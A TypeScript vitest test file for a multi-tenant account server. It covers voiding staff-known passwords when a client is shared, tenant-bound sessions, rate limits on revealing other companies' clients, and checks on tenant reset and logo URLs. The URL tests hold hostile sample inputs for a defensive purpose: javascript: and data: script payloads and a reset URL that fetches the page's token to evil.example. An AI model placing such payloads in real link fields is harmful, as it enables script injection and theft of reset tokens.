/** Shared clients: passwords that descend from staff die on sharing, tenant-bound sessions, answers about other companies' clients, tenant URLs. */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it, onTestFinished } from 'vitest';
import { HOUR } from '../../server/clock.js';
import {
  createTestApp,
  OTHER_TENANT,
  PROVISION_KEY,
  TENANT,
  tokenFromMail,
  type TestApp,
} from '../helpers/app.js';
import type { OutboxMessage } from '../../server/domain.js';
import { bearer, mailsOfKind, newMail } from './api-member-helpers.js';
import {
  expectError,
  getEvents,
  json,
  login,
  NEW_PASSWORD,
  NEWER_PASSWORD,
  OLD_PASSWORD,
  passwordInMail,
  type Summary,
} from './api-staff-helpers.js';

let t: TestApp;
afterEach(() => t.close());

const key = { Authorization: `Bearer ${PROVISION_KEY}` };
const provision = (id: string, body: Record<string, unknown>) =>
  t.put(`/api/provision/clients/${id}`, body, key);

interface Client {
  id: string;
  name: string;
  email: string;
}

/** A client the integrator provisioned into TENANT only: no staff typed its address. */
async function provisioned(id: string, email: string): Promise<Client> {
  const client = { id, name: 'Robin Vale', email };
  expect((await provision(id, { name: client.name, email, tenants: [TENANT] })).status).toBe(201);
  return client;
}

/** Provisioning gives the client these tenants (with the address the integrator knows). */
async function setTenants(client: Client, tenants: string[]): Promise<void> {
  const res = await provision(client.id, { name: client.name, email: client.email, tenants });
  expect(res.status, await res.clone().text()).toBe(200);
}

const share = (client: Client) => setTenants(client, [TENANT, OTHER_TENANT]);

/** The one mail (after the provisioning answer) telling the member their password no longer works. */
async function voidedMail(client: Client): Promise<OutboxMessage> {
  const mails = (await mailsOfKind(t, client.email, 'reset')).filter((mail) =>
    mail.text.includes('no longer works'),
  );
  expect(mails, `password-voided mails to ${client.email}`).toHaveLength(1);
  expect(mails[0].text).toMatch(/^For your security, the password of your .+ account no longer works/m);
  return mails[0];
}

/** Staff of TENANT choose a one-time password for the client (they know it). */
async function staffCustomPassword(client: Client, password: string): Promise<void> {
  const res = await t.post(
    `/api/admin/clients/${client.id}/password`,
    { mode: 'custom', password, delivery: 'none' },
    await t.asStaff({ tid: TENANT }),
  );
  expect(res.status, await res.clone().text()).toBe(200);
}

/** Finishes a forced change with the challenge of a login; returns the new session. */
async function forceChange(challenge: string | undefined, password: string): Promise<string> {
  const res = await t.post('/api/password/force-change', { challenge, password });
  const body = await json<{ status?: string; session: string }>(res);
  expect({ status: res.status, body: body.status }).toEqual({ status: 200, body: 'ok' });
  return body.session;
}

/** Logs in with a staff-set one-time password and chooses `password` in the forced change. */
async function throughForcedChange(identifier: string, oneTime: string, password: string): Promise<string> {
  const first = await login(t, identifier, oneTime);
  expect(first.result).toBe('password_change_required');
  return forceChange(first.challenge, password);
}

describe('a password that descends from staff dies when the client becomes shared', () => {
  /** @see issue 9, item 3 */
  it('a staff-known password finished through the forced change dies; the member gets back in by mail', async () => {
    t = await createTestApp();
    const client = await provisioned('crm-1', 'robin@example.com');
    await staffCustomPassword(client, OLD_PASSWORD);
    // Whoever knows the staff-chosen password (staff themselves) finishes the forced change.
    const session = await throughForcedChange(client.email, OLD_PASSWORD, NEW_PASSWORD);
    expect((await login(t, client.email, NEW_PASSWORD)).result).toBe('ok');
    // A reset link the member asked for, still live when the client is shared.
    const forgot = await newMail(t, client.email, 'reset', async () =>
      t.post('/api/forgot', { identifier: client.email }),
    );

    await share(client);
    expect((await login(t, client.email, NEW_PASSWORD)).result).toBe('invalid_credentials');
    await expectError(await t.get('/api/session', bearer(session)), 401, 'session_invalid');
    await expectError(
      await t.post('/api/links/inspect', { token: tokenFromMail(forgot) }),
      410,
      'link_revoked',
    );
    const voided = await voidedMail(client);
    const summary = await json<Summary>(
      await t.get(`/api/admin/clients/${client.id}`, await t.asStaff({ tid: OTHER_TENANT })),
    );
    expect(summary).toMatchObject({ status: 'invited', credential: null });

    // The link went to the integrator's address: the password set through it is the member's own.
    const reset = await t.post('/api/reset', { token: tokenFromMail(voided), password: NEWER_PASSWORD });
    expect(reset.status).toBe(200);
    expect((await login(t, client.email, NEWER_PASSWORD)).result).toBe('ok');
    await setTenants(client, [OTHER_TENANT]);
    await setTenants(client, [TENANT, OTHER_TENANT, 'studio-c']);
    expect((await login(t, client.email, NEWER_PASSWORD)).result).toBe('ok');
  });

  /** @see issue 9, item 3 */
  it('a password set through a reset link to a mailbox staff set dies, after the address went back', async () => {
    t = await createTestApp();
    const client = await provisioned('crm-2', 'sasha@example.com');
    const staff = await t.asStaff({ tid: TENANT });
    const desk = 'front-desk@studio-a.example';
    const moved = await t.patch(
      `/api/admin/clients/${client.id}`,
      { email: desk, emailConfirmed: true },
      staff,
    );
    expect(moved.status).toBe(200);
    expect((await t.post(`/api/admin/clients/${client.id}/reset-link`, undefined, staff)).status).toBe(202);
    const [link] = await mailsOfKind(t, desk, 'reset');
    expect((await t.post('/api/reset', { token: tokenFromMail(link), password: NEW_PASSWORD })).status).toBe(
      200,
    );
    expect((await login(t, desk, NEW_PASSWORD)).result).toBe('ok');
    const back = await t.patch(`/api/admin/clients/${client.id}`, { email: client.email }, staff);
    expect(back.status).toBe(200);

    await share(client);
    expect((await login(t, client.email, NEW_PASSWORD)).result).toBe('invalid_credentials');
    const voided = await voidedMail(client);
    expect(await mailsOfKind(t, desk, 'reset')).toHaveLength(1);
    expect(
      (await t.post('/api/reset', { token: tokenFromMail(voided), password: NEWER_PASSWORD })).status,
    ).toBe(200);
    expect((await login(t, client.email, NEWER_PASSWORD)).result).toBe('ok');
  });

  /** @see issue 9, item 3: a live link, and an address only echoed back by the integrator, must not carry staff through. */
  it('a link staff sent to a mailbox they typed dies on sharing, and nothing sets a password there until the integrator confirms the address', async () => {
    t = await createTestApp();
    const client = await provisioned('crm-9', 'jo@example.com');
    await t.post('/api/forgot', { identifier: client.email });
    const own = (await mailsOfKind(t, client.email, 'reset'))[0];
    expect((await t.post('/api/reset', { token: tokenFromMail(own), password: NEW_PASSWORD })).status).toBe(
      200,
    );
    const staff = await t.asStaff({ tid: TENANT });
    const desk = 'desk@studio-a.example';
    expect(
      (await t.patch(`/api/admin/clients/${client.id}`, { email: desk, emailConfirmed: true }, staff)).status,
    ).toBe(200);
    expect((await t.post(`/api/admin/clients/${client.id}/reset-link`, undefined, staff)).status).toBe(202);
    const staffLink = tokenFromMail((await mailsOfKind(t, desk, 'reset'))[0]);

    // The integrator's backend heard of the new address and sends it back as it is, sharing the client.
    const echoed = { ...client, email: desk };
    await share(echoed);
    await expectError(
      await t.post('/api/reset', { token: staffLink, password: NEWER_PASSWORD }),
      410,
      'link_revoked',
    );
    // Nothing that sets a password goes to that mailbox: not staff's links, not Forgot password?.
    await expectError(
      await t.post(`/api/admin/clients/${client.id}/reset-link`, undefined, staff),
      409,
      'email_not_vouched',
    );
    const summary = await json<Summary>(await t.get(`/api/admin/clients/${client.id}`, staff));
    expect(summary.capabilities).toMatchObject({ resetLink: false, invite: false });
    expect(summary.reasons.resetLink).toMatch(/your system must confirm the address/);
    const before = (await mailsOfKind(t, desk, 'reset')).length;
    await t.post('/api/forgot', { identifier: desk });
    expect(await mailsOfKind(t, desk, 'reset')).toHaveLength(before);
    // The member's own password was never staff's: it still works.
    expect((await login(t, desk, NEW_PASSWORD)).result).toBe('ok');

    // Once the integrator confirms the address, it is the member's again.
    const confirmed = await provision(client.id, {
      name: client.name,
      email: desk,
      tenants: [TENANT, OTHER_TENANT],
      emailConfirmed: true,
    });
    expect(confirmed.status).toBe(200);
    expect((await t.post(`/api/admin/clients/${client.id}/reset-link`, undefined, staff)).status).toBe(202);
  });

  /** @see issue 9, item 3 */
  it('a password that died on sharing with an echoed staff address is mailed for once the integrator confirms the address', async () => {
    t = await createTestApp();
    const client = await provisioned('crm-10', 'kai@example.com');
    const staff = await t.asStaff({ tid: TENANT });
    const typed = 'kai.typed@example.com';
    expect(
      (await t.patch(`/api/admin/clients/${client.id}`, { email: typed, emailConfirmed: true }, staff))
        .status,
    ).toBe(200);
    await staffCustomPassword(client, NEW_PASSWORD);
    await share({ ...client, email: typed });
    expect((await login(t, typed, NEW_PASSWORD)).result).toBe('invalid_credentials');
    // Not yet: the address is the one staff typed.
    expect(
      (await mailsOfKind(t, typed, 'reset')).filter((mail) => mail.text.includes('no longer works')),
    ).toEqual([]);

    const confirmed = await provision(client.id, {
      name: client.name,
      email: typed,
      tenants: [TENANT, OTHER_TENANT],
      emailConfirmed: true,
    });
    expect(confirmed.status).toBe(200);
    const voided = await voidedMail({ ...client, email: typed });
    expect(
      (await t.post('/api/reset', { token: tokenFromMail(voided), password: NEWER_PASSWORD })).status,
    ).toBe(200);
    expect((await login(t, typed, NEWER_PASSWORD)).result).toBe('ok');
  });

  /** @see issue 9, item 3 */
  it('a change with the current password keeps the lineage: custom → forced change → change → shared → dies', async () => {
    t = await createTestApp();
    const client = await provisioned('crm-3', 'lee@example.com');
    await staffCustomPassword(client, OLD_PASSWORD);
    const session = await throughForcedChange(client.email, OLD_PASSWORD, NEW_PASSWORD);
    const changed = await t.post(
      '/api/password/change',
      { currentPassword: NEW_PASSWORD, password: NEWER_PASSWORD },
      bearer(session),
    );
    expect(changed.status).toBe(200);
    expect((await login(t, client.email, NEWER_PASSWORD)).result).toBe('ok');

    await share(client);
    expect((await login(t, client.email, NEWER_PASSWORD)).result).toBe('invalid_credentials');
    await voidedMail(client);
  });

  /** @see issue 9, item 3: moving the client to another company is the same as sharing it. */
  it('a staff-known password dies when provisioning moves the client to another tenant', async () => {
    t = await createTestApp();
    const client = await provisioned('crm-4', 'ines@example.com');
    await staffCustomPassword(client, OLD_PASSWORD);
    await throughForcedChange(client.email, OLD_PASSWORD, NEW_PASSWORD);
    await setTenants(client, [OTHER_TENANT]);
    expect((await login(t, client.email, NEW_PASSWORD)).result).toBe('invalid_credentials');
    await voidedMail(client);
  });

  it("a member's own password survives sharing: set through a link to the integrator's address, or chosen after a mailed one", async () => {
    t = await createTestApp();
    const own = await provisioned('crm-5', 'pat@example.com');
    const forgot = await newMail(t, own.email, 'reset', async () =>
      t.post('/api/forgot', { identifier: own.email }),
    );
    expect(
      (await t.post('/api/reset', { token: tokenFromMail(forgot), password: NEW_PASSWORD })).status,
    ).toBe(200);
    const session = (await login(t, own.email, NEW_PASSWORD)).session!;

    const mailed = await provisioned('crm-6', 'quin@example.com');
    const staff = await t.asStaff({ tid: TENANT });
    const sent = await t.post(
      `/api/admin/clients/${mailed.id}/password`,
      { mode: 'random', delivery: 'email' },
      staff,
    );
    expect(sent.status).toBe(200);
    const [credentials] = await mailsOfKind(t, mailed.email, 'credentials');
    await throughForcedChange(mailed.email, passwordInMail(credentials), NEWER_PASSWORD);

    await share(own);
    await share(mailed);
    expect((await login(t, own.email, NEW_PASSWORD)).result).toBe('ok');
    expect((await t.get('/api/session', bearer(session))).status).toBe(200);
    expect((await login(t, mailed.email, NEWER_PASSWORD)).result).toBe('ok');
    // Nobody was told to choose a new password.
    expect(await mailsOfKind(t, own.email, 'reset')).toHaveLength(1);
    expect(await mailsOfKind(t, mailed.email, 'reset')).toHaveLength(0);
  });
});

describe('sessions and challenges issued for a tenant', () => {
  /** @see issue 9 (low) */
  it('a tenant-scoped session stops working once provisioning removes the member from that tenant', async () => {
    t = await createTestApp();
    await t.seedClient({
      id: 'crm-7',
      name: 'Dana Holt',
      email: 'dana@example.com',
      tenants: [TENANT, OTHER_TENANT],
      password: OLD_PASSWORD,
    });
    const forTenant = await login(t, 'dana@example.com', OLD_PASSWORD, TENANT);
    const forOther = await login(t, 'dana@example.com', OLD_PASSWORD, OTHER_TENANT);
    const anyTenant = await login(t, 'dana@example.com', OLD_PASSWORD);
    for (const outcome of [forTenant, forOther, anyTenant]) expect(outcome.result).toBe('ok');
    expect((await t.get('/api/session', bearer(forTenant.session!))).status).toBe(200);

    await setTenants({ id: 'crm-7', name: 'Dana Holt', email: 'dana@example.com' }, [OTHER_TENANT]);
    await expectError(await t.get('/api/session', bearer(forTenant.session!)), 401, 'session_invalid');
    expect(
      await json<{ tid?: string }>(await t.get('/api/session', bearer(forOther.session!))),
    ).toMatchObject({
      tid: OTHER_TENANT,
    });
    expect((await t.get('/api/session', bearer(anyTenant.session!))).status).toBe(200);
    // The member's own password was untouched.
    expect((await login(t, 'dana@example.com', OLD_PASSWORD)).result).toBe('ok');
  });

  /** @see issue 9 (low) */
  it('a force-change challenge issued for a tenant stops working once the member leaves that tenant', async () => {
    t = await createTestApp();
    const client = await provisioned('crm-8', 'eli@example.com');
    const staff = await t.asStaff({ tid: TENANT });
    expect(
      (await t.post(`/api/admin/clients/${client.id}/password`, { mode: 'random', delivery: 'email' }, staff))
        .status,
    ).toBe(200);
    const mailed = passwordInMail((await mailsOfKind(t, client.email, 'credentials'))[0]);
    const forTenant = await login(t, client.email, mailed, TENANT);
    expect(forTenant.result).toBe('password_change_required');

    // The mailed password went unseen to the integrator's address, so it survives the move.
    await setTenants(client, [OTHER_TENANT]);
    await expectError(
      await t.post('/api/password/force-change', { challenge: forTenant.challenge, password: NEW_PASSWORD }),
      401,
      'challenge_invalid',
    );
    const again = await login(t, client.email, mailed, OTHER_TENANT);
    expect(again.result).toBe('password_change_required');
    await forceChange(again.challenge, NEW_PASSWORD);
    expect((await login(t, client.email, NEW_PASSWORD, OTHER_TENANT)).result).toBe('ok');
  });
});

describe("answers about another company's client", () => {
  const OWN_STAFF = { tid: TENANT, sub: 'desk-7' };
  const create = async (body: Record<string, unknown>, claims = OWN_STAFF) =>
    t.post('/api/admin/clients', { name: 'New Person', ...body }, await t.asStaff(claims));

  /** @see issue 9 (low) */
  it("409 as before, recorded on that client's activity for its own staff as staff of another company", async () => {
    t = await createTestApp();
    const theirs = await t.seedClient({
      name: 'Theo Marsh',
      email: 'theo@example.com',
      username: 'theo.m',
      tenants: [OTHER_TENANT],
    });
    const ours = await t.seedClient({ name: 'Uma Reed', email: 'uma@example.com' });
    await expectError(await create({ email: 'THEO@example.com' }), 409, 'email_in_use');
    await expectError(
      await create({ email: 'free@example.com', username: 'theo.m' }),
      409,
      'username_in_use',
    );
    await expectError(
      await t.patch(
        `/api/admin/clients/${ours.id}`,
        { email: 'theo@example.com' },
        await t.asStaff(OWN_STAFF),
      ),
      409,
      'email_in_use',
    );
    const list = await json<{ items: Summary[] }>(
      await t.get('/api/admin/clients', await t.asStaff(OWN_STAFF)),
    );
    expect(list.items.map((item) => item.id)).toEqual([ours.id]);

    const matches = (await getEvents(t, theirs.id, await t.asStaff({ tid: OTHER_TENANT }))).filter(
      (event) => event.action === 'client.match',
    );
    // One line per field and hour, counting the answers.
    expect(
      matches
        .map((event) => ({ field: event.detail?.field, count: event.count ?? 1 }))
        .sort((a, b) => String(a.field).localeCompare(String(b.field))),
    ).toEqual([
      { field: 'email', count: 2 },
      { field: 'username', count: 1 },
    ]);
    // Anonymous: neither the staff member nor the company is named.
    for (const event of matches) {
      expect(event).toMatchObject({ actor: 'staff of another company', outcome: 'refused' });
    }
    // Staff of the asking company still cannot open that client.
    await expectError(
      await t.get(`/api/admin/clients/${theirs.id}`, await t.asStaff(OWN_STAFF)),
      404,
      'not_found',
    );
  });

  /** @see issue 9 (low) */
  it('the 21st such answer within the hour is a 429 for any create or email change, even a free address, until the hour passes', async () => {
    t = await createTestApp();
    const theirs = await t.seedClient({
      name: 'Theo Marsh',
      email: 'theo@example.com',
      username: 'theo.m',
      tenants: [OTHER_TENANT],
    });
    await t.seedClient({ name: 'Own Member', email: 'own@example.com' });
    const ours = await t.seedClient({ name: 'Uma Reed', email: 'uma@example.com' });

    // About this company's own clients: not counted.
    for (let i = 0; i < 5; i++)
      await expectError(await create({ email: 'own@example.com' }), 409, 'email_in_use');
    const answers: string[] = [];
    for (let i = 0; i < 12; i++)
      answers.push(
        (await json<{ error: { code: string } }>(await create({ email: 'theo@example.com' }))).error.code,
      );
    for (let i = 0; i < 4; i++)
      answers.push(
        (await json<{ error: { code: string } }>(await create({ username: 'theo.m' }))).error.code,
      );
    for (let i = 0; i < 4; i++) {
      const res = await t.patch(
        `/api/admin/clients/${ours.id}`,
        { email: 'theo@example.com' },
        await t.asStaff(OWN_STAFF),
      );
      answers.push((await json<{ error: { code: string } }>(res)).error.code);
    }
    expect(answers).toEqual([
      ...Array<string>(12).fill('email_in_use'),
      ...Array<string>(4).fill('username_in_use'),
      ...Array<string>(4).fill('email_in_use'),
    ]);

    const refused = await create({ email: 'free@example.com' });
    await expectError(refused, 429, 'too_many_attempts');
    expect(refused.headers.get('Retry-After')).toBe(String(HOUR / 1000));
    await expectError(await create({ email: 'theo@example.com' }), 429, 'too_many_attempts');
    await expectError(await create({}), 429, 'too_many_attempts');
    await expectError(
      await t.patch(
        `/api/admin/clients/${ours.id}`,
        { email: 'uma.new@example.com' },
        await t.asStaff(OWN_STAFF),
      ),
      429,
      'too_many_attempts',
    );
    // Not an email change: unaffected. Nor is another staff member of the same company.
    expect(
      (await t.patch(`/api/admin/clients/${ours.id}`, { name: 'Uma Reed-Ito' }, await t.asStaff(OWN_STAFF)))
        .status,
    ).toBe(200);
    expect((await create({ email: 'other-desk@example.com' }, { tid: TENANT, sub: 'desk-8' })).status).toBe(
      201,
    );
    const matches = (await getEvents(t, theirs.id, await t.asStaff({ tid: OTHER_TENANT }))).filter(
      (event) => event.action === 'client.match',
    );
    expect(matches.reduce((sum, event) => sum + (event.count ?? 1), 0)).toBe(20);

    t.clock.advance(HOUR);
    expect((await create({ email: 'free@example.com' })).status).toBe(201);
  });
});

describe("answers about another company's client, in parallel", () => {
  /** @see issue 9 (low): the budget once held only for requests one after the other. */
  it('60 parallel creates with another company’s email get exactly 20 answers; the rest wait (429)', async () => {
    // The fs store, where parallel requests interleave the most.
    const dataDir = await mkdtemp(join(tmpdir(), 'in-use-'));
    t = await createTestApp({ env: { STORAGE: 'fs', DATA_DIR: dataDir } });
    onTestFinished(() => rm(dataDir, { recursive: true, force: true }));
    const theirs = await t.seedClient({
      name: 'Theo Marsh',
      email: 'theo@example.com',
      tenants: [OTHER_TENANT],
    });
    const staff = await t.asStaff({ tid: TENANT, sub: 'desk-9' });
    const answers = await Promise.all(
      Array.from({ length: 60 }, () =>
        t.post('/api/admin/clients', { name: 'Xavier Young', email: 'theo@example.com' }, staff),
      ),
    );
    const statuses = answers.map((res) => res.status);
    expect(statuses.filter((status) => status === 409)).toHaveLength(20);
    expect(statuses.filter((status) => status === 429)).toHaveLength(40);
    const matches = (await getEvents(t, theirs.id, await t.asStaff({ tid: OTHER_TENANT }))).filter(
      (event) => event.action === 'client.match',
    );
    expect(matches.reduce((sum, event) => sum + (event.count ?? 1), 0)).toBe(20);
  });
});

describe('tenant URLs in mail (resetUrl, brand.logoUrl)', () => {
  const putTenant = (body: Record<string, unknown>) => t.put(`/api/provision/tenants/${TENANT}`, body, key);

  async function expectFieldRefused(res: Response, field: string): Promise<void> {
    const body = await json<{ error?: { code: string; message: string; fields?: string[] } }>(res);
    expect({ status: res.status, code: body.error?.code, fields: body.error?.fields }).toEqual({
      status: 400,
      code: 'invalid_request',
      fields: [field],
    });
    expect(body.error?.message).toContain(field);
  }

  const unsafe = [
    'javascript:alert(document.cookie)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'http://evil.example/reset',
    'http://localhost.evil.example/reset',
  ];

  /** @see issue 9 (low) */
  it('https only on a public server: javascript:, data: and any plain http (even loopback) → 400 naming the field', async () => {
    t = await createTestApp();
    for (const url of [...unsafe, 'http://localhost:5173/reset', 'http://127.0.0.1/reset']) {
      await expectFieldRefused(await putTenant({ name: 'Cove Gym', resetUrl: url }), 'resetUrl');
      await expectFieldRefused(
        await putTenant({ name: 'Cove Gym', brand: { logoUrl: url } }),
        'brand.logoUrl',
      );
    }
    // Nothing was stored: the first acceptable request creates the tenant.
    const created = await putTenant({
      name: 'Cove Gym',
      resetUrl: 'https://members.cove.example/reset',
      brand: { logoUrl: 'https://cdn.cove.example/logo.png' },
    });
    expect(created.status).toBe(201);
  });

  /** @see issue 9 (low) */
  it('plain http on a loopback host only while PUBLIC_URL is itself loopback (development)', async () => {
    t = await createTestApp({ env: { PUBLIC_URL: 'http://localhost:8787' } });
    for (const url of unsafe) {
      await expectFieldRefused(await putTenant({ name: 'Dev Studio', resetUrl: url }), 'resetUrl');
      await expectFieldRefused(
        await putTenant({ name: 'Dev Studio', brand: { logoUrl: url } }),
        'brand.logoUrl',
      );
    }
    for (const url of [
      'http://localhost:5173/reset',
      'http://127.0.0.1:5173/reset',
      'http://[::1]:5173/reset',
    ]) {
      const res = await putTenant({
        name: 'Dev Studio',
        resetUrl: url,
        brand: { logoUrl: `${url}/logo.png` },
      });
      expect([200, 201]).toContain(res.status);
    }
    const account = await t.seedClient({ email: 'dev@example.com', password: OLD_PASSWORD });
    await t.post(`/api/admin/clients/${account.id}/reset-link`, undefined, await t.asStaff({ tid: TENANT }));
    const [mail] = await mailsOfKind(t, 'dev@example.com', 'reset');
    expect(mail.text).toContain('http://[::1]:5173/reset#token=');
  });
});

describe('a tenant URL stored before the rule', () => {
  /** @see issue 9 (low): the rule is kept when a link is mailed, not only when the tenant is provisioned. */
  it('a javascript: resetUrl already in the store is never put in a mail; the hosted page is used', async () => {
    t = await createTestApp();
    await t.store.putTenant({
      id: TENANT,
      name: 'Cove Gym',
      locale: 'en',
      resetUrl: 'javascript:fetch("https://evil.example/?"+location.hash)',
      createdAt: 0,
      updatedAt: 0,
    });
    const member = await t.seedClient({ email: 'ivy@example.com', password: OLD_PASSWORD });
    expect(member.tenants).toEqual([TENANT]);
    await t.post('/api/forgot', { identifier: 'ivy@example.com' });
    const [mail] = await mailsOfKind(t, 'ivy@example.com', 'reset');
    expect(mail.text).not.toContain('javascript:');
    expect(mail.text).toContain('https://portal.example.test/reset?tenant=');
  });
});
